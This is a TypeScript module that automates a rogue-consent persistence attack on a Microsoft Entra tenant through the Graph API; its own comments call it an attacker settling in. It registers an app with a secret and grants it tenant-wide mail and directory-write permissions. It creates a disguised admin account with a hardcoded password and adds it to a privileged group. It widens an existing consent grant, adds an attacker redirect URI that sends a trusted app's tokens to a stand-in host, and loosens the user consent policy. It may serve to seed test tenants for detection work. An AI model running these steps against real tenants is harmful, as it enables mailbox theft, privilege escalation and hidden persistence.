import type { Client, Json } from './client.js';
import {
  type Item,
  isAgent,
  isDynamic,
  isExchangeGroup,
  isSynced,
  listApplications,
  listGroups,
  listPrincipals,
  listUsers,
  objectOf,
  textsOf,
} from './tenant-view.js';

const NAME = 'Mail Sync Pro';
const SITE = 'https://mail-sync-pro.example';
const GRAPH = '00000003-0000-0000-c000-000000000000';
const SCOPES = 'User.Read offline_access Mail.ReadWrite Mail.Send Files.ReadWrite.All';
const MORE_SCOPES = ['Mail.ReadWrite', 'Directory.AccessAsUser.All'];
const ROLES = ['Directory.ReadWrite.All', 'RoleManagement.ReadWrite.Directory', 'Mail.ReadWrite'];
const CONSENT_POLICY = 'ManagePermissionGrantsForSelf.microsoft-user-default-legacy';
const AUTHORIZATION = '/policies/authorizationPolicy';

/** An attacker settles in: an application that may read all mail, a hidden account, and ways in through what is there. */
export async function rogueConsent(client: Client): Promise<string[]> {
  const [applications, principals] = [await listApplications(client), await listPrincipals(client)];
  const grants = (await client.list('/oauth2PermissionGrants')) as Item[];
  const graph = principals.find((principal) => principal.appId === GRAPH);
  return [
    ...(await register(client, graph)),
    ...(await hideAccount(client)),
    ...(graph === undefined ? [] : await widenGrant(client, grants, graph, principals)),
    ...(await addRedirect(client, applications)),
    ...(await loosenConsent(client)),
  ];
}

/** The application with a secret, its service principal, and everything that Microsoft Graph lets it do. */
async function register(client: Client, graph: Item | undefined): Promise<string[]> {
  const application = await client.post('/applications', {
    displayName: NAME,
    signInAudience: 'AzureADMultipleOrgs',
    web: { redirectUris: [`${SITE}/callback`] },
  });
  const principal = await client.post('/servicePrincipals', { appId: application.appId });
  await client.post(`/applications/${application.id}/addPassword`, { passwordCredential: { displayName: 'sync' } });
  const summary = [`application registered with a secret: ${NAME}`];
  if (graph === undefined) return summary;
  const ends = { clientId: principal.id, resourceId: graph.id };
  await client.post('/oauth2PermissionGrants', { ...ends, consentType: 'AllPrincipals', scope: SCOPES });
  const roles = rolesOf(graph).filter(({ value }) => ROLES.includes(String(value)));
  for (const { id: appRoleId } of roles) {
    const assignment = { principalId: principal.id, resourceId: graph.id, appRoleId };
    await client.post(`/servicePrincipals/${graph.id}/appRoleAssignedTo`, assignment);
  }
  return [
    ...summary,
    `consent for everybody to ${SCOPES.split(' ').length} permissions of ${graph.displayName}: ${NAME}`,
    ...(roles.length === 0 ? [] : [`${roles.length} application permissions of ${graph.displayName}: ${NAME}`]),
  ];
}

function rolesOf(principal: Item): Json[] {
  return Array.isArray(principal.appRoles) ? (principal.appRoles as Json[]) : [];
}

/** A user with a harmless name, in a group that directory roles are given to. */
async function hideAccount(client: Client): Promise<string[]> {
  const users = await listUsers(client);
  const names = new Set(users.map((user) => String(user.userPrincipalName).toLowerCase()));
  const candidates = Array.from({ length: names.size + 1 }, (_, i) => `svc-mailrelay${i === 0 ? '' : i + 1}`);
  const domain = await defaultDomain(client, users);
  const nickname = candidates.find((candidate) => !names.has(`${candidate}@${domain}`)) ?? 'svc-mailrelay';
  const account = await client.post('/users', {
    accountEnabled: true,
    displayName: 'Service: mail relay',
    mailNickname: nickname,
    passwordProfile: { password: 'Relay-9f!27c-mail', forceChangePasswordNextSignIn: false },
    userPrincipalName: `${nickname}@${domain}`,
  });
  const summary = [`account created: ${nickname}@${domain}`];
  const group = (await listGroups(client)).find(
    (candidate) =>
      candidate.isAssignableToRole === true &&
      !isDynamic(candidate) &&
      !isSynced(candidate) &&
      !isExchangeGroup(candidate),
  );
  if (group === undefined) return summary;
  const reference = `https://graph.microsoft.com/v1.0/directoryObjects/${account.id}`;
  await client.post(`/groups/${group.id}/members/$ref`, { '@odata.id': reference });
  return [...summary, `account added to privileged group: ${group.displayName}`];
}

async function defaultDomain(client: Client, users: readonly Item[]): Promise<string> {
  const [organization] = await client.list('/organization');
  const domains = Array.isArray(organization?.verifiedDomains) ? (organization.verifiedDomains as Json[]) : [];
  const standard = domains.find((domain) => domain.isDefault === true)?.name;
  return String(standard ?? String(users[0]?.userPrincipalName).split('@')[1]).toLowerCase();
}

/** An application that everybody has agreed to may do more now. */
async function widenGrant(
  client: Client,
  grants: readonly Item[],
  graph: Item,
  principals: readonly Item[],
): Promise<string[]> {
  const nameOf = (grant: Item) => String(principals.find(({ id }) => id === grant.clientId)?.displayName);
  const wide = grants.filter((grant) => grant.consentType === 'AllPrincipals' && grant.resourceId === graph.id);
  const [grant] = wide.toSorted((a, b) => (nameOf(a) < nameOf(b) ? -1 : 1));
  if (grant === undefined) return [];
  const scope = new Set([...String(grant.scope).split(' ').filter(Boolean), ...MORE_SCOPES]);
  await client.patch(`/oauth2PermissionGrants/${grant.id}`, { scope: [...scope].join(' ') });
  return [`consent widened by ${MORE_SCOPES.join(' and ')}: ${nameOf(grant)}`];
}

/** Tokens of an application that people trust are sent to the attacker, too. */
async function addRedirect(client: Client, applications: readonly Item[]): Promise<string[]> {
  const redirectsOf = (application: Item) => textsOf(objectOf(application.web).redirectUris);
  const application = applications.find((candidate) => !isAgent(candidate) && redirectsOf(candidate).length > 0);
  if (application === undefined) return [];
  const redirectUris = [...redirectsOf(application), `${SITE}/relay`];
  await client.patch(`/applications/${application.id}`, { web: { redirectUris } });
  return [`redirect address added to application: ${application.displayName}`];
}

/** From now on everybody may agree to what other applications ask for. */
async function loosenConsent(client: Client): Promise<string[]> {
  const permissionGrantPoliciesAssigned = [CONSENT_POLICY];
  await client.patch(AUTHORIZATION, { defaultUserRolePermissions: { permissionGrantPoliciesAssigned } });
  return ['users may consent to any application now'];
}
